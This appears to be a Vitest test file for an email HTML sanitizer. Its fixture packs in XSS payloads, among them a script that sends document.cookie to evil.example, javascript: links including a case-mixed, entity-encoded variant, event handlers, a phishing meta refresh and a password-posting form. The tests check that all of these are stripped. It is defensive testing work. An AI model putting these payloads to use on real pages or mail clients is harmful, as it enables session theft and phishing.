import { describe, expect, it } from "vitest";
import { sanitizeEmailHtml } from "./html-sanitize.js";

const HOSTILE = `<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/phish">
<style>body { display: none } .x { background: url(javascript:alert(1)) }</style>
<script>fetch("https://evil.example/?c=" + document.cookie)</script>
<title>Secret title</title>
</head><body onload="alert('body')">
<p style="position:fixed;top:0" onclick="alert('p')">Dear office, <b>Leo</b> is <i>sick</i> today.</p>
<a href="javascript:alert('link')">click</a>
<a href="JaVaScRiPt&colon;alert(2)">click 2</a>
<a href="https://riverside.example/calendar" onmouseover="steal()">calendar</a>
<a href="mailto:ana@example.com">mail me</a>
<img src="x" onerror="alert('img')"><img src="cid:logo@riverside"><img src="data:image/svg+xml;base64,PHN2Zz4=">
<iframe src="https://evil.example/frame">frame fallback</iframe>
<object data="evil.swf">object fallback</object><embed src="evil.swf">
<form action="https://evil.example/post"><input name="password"><button>Send</button></form>
<svg><script>alert('svg')</script></svg>
<ul><li>Route 12</li><li>Stop: Main St</li></ul>
<table><tr><td colspan="2" onclick="x()">Cell</td></tr></table>
<blockquote type="cite">On Monday the office wrote: hello</blockquote>
</body></html>`;

describe("sanitizeEmailHtml", () => {
  const out = sanitizeEmailHtml(HOSTILE);

  it("removes scripts, styles, meta refreshes, titles, frames, objects and forms with their content", () => {
    for (const gone of ["<script", "document.cookie", "<style", "display: none", "<meta", "refresh", "Secret title", "<iframe", "frame fallback", "<object", "<embed", "<form", "<input", "password", "alert('svg')"]) {
      expect(out).not.toContain(gone);
    }
  });

  it("removes event handlers, inline styles and script URLs, whatever their case or encoding", () => {
    expect(out).not.toMatch(/\son\w+=/i);
    expect(out).not.toMatch(/javascript/i);
    expect(out).not.toContain("style=");
    expect(out).not.toContain("data:image");
  });

  it("keeps ordinary formatting, safe links and inline-image references", () => {
    expect(out).toContain("<p>Dear office, <b>Leo</b> is <i>sick</i> today.</p>");
    expect(out).toContain('<a href="https://riverside.example/calendar" rel="noopener noreferrer nofollow" target="_blank">calendar</a>');
    expect(out).toContain('<a href="mailto:ana@example.com" rel="noopener noreferrer nofollow" target="_blank">mail me</a>');
    expect(out).toContain('<img src="cid:logo@riverside" />');
    expect(out).toContain("<ul><li>Route 12</li><li>Stop: Main St</li></ul>");
    expect(out).toContain('<td colspan="2">Cell</td>');
    expect(out).toContain("<blockquote>On Monday the office wrote: hello</blockquote>");
  });
});
